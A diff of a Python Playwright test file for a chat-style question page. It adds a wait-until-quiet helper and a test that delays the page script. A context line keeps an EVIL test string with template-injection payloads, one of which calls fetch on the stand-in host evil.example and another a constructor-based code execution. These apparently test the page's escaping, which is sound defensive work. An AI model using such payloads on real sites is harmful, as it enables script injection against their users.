@@ -43,6 +43,15 @@ EVIL = (
     "${fetch('http://evil.example/10')} {{constructor.constructor('alert(1)')()}}\n"
 )
 
+# Comes true when nothing on the page has changed for half a second.
+QUIET = """new Promise((done) => {
+  let timer = setTimeout(done, 500);
+  new MutationObserver(() => {
+    clearTimeout(timer);
+    timer = setTimeout(done, 500);
+  }).observe(document, { childList: true, subtree: true, attributes: true });
+})"""
+
 
 def ask(page: Any, question: str) -> None:
     page.fill("#rk-question textarea", question)
@@ -325,6 +334,25 @@ def test_the_last_question_is_edited_and_asked_again(open_page: Any, site: Any) 
     until(page, f"document.querySelector('.rk-open').textContent === {json.dumps(LEAVE)}")
     stored = site.services.library.conversations(site.caller())
     assert [turn.question for turn in stored.turns(stored.all()[0].id)] == [LEAVE]
+
+
+def test_the_page_begins_although_its_script_comes_last(open_page: Any, site: Any) -> None:
+    page = open_page()
+    held: list[Any] = []
+
+    def hold(route: Any) -> None:
+        held.append(route)
+
+    page.route("**/ui/static/ragkit.js*", hold)
+    page.reload(wait_until="commit")
+    for place in ("#rk-transcript", "#rk-list", "#rk-choices", "#rk-question textarea"):
+        page.wait_for_selector(place, state="attached")
+    page.evaluate(QUIET)
+    (route,) = held
+    route.continue_()
+    ready(page)
+    ask(page, LEAVE)
+    answered(page)
 
 
 def test_what_this_page_has_not_seen_is_not_replaced(open_page: Any, site: Any) -> None:
